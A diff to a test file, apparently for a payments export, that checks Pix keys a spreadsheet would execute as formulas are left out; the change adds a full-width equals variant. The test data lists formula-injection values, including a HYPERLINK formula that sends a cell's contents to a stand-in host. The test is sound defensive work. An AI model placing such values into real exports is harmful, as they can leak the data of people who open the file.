@@ -143,7 +143,7 @@ describe('lists of banks and providers', () => {
     ['ALEATORIA', '123e4567-e89b-12d3-a456-426614174000'],
   ];
 
-  it.each(['=cmd@x.com', '+HYPERLINK("http://x.com/?"&C2,"a@b.c")', '@x@y.com', '-1@x.com'])(
+  it.each(['=cmd@x.com', '+HYPERLINK("http://x.com/?"&C2,"a@b.c")', '@x@y.com', '＝cmd@x.com', '-1@x.com'])(
     'a Pix key that a spreadsheet would run is left out: %s',
     async (pixKey) => {
       const { plan } = await write([row('ana', 10_00, bank('PIX', { holder: 'Ana', pixKey }), 'BRL')], 'pix');
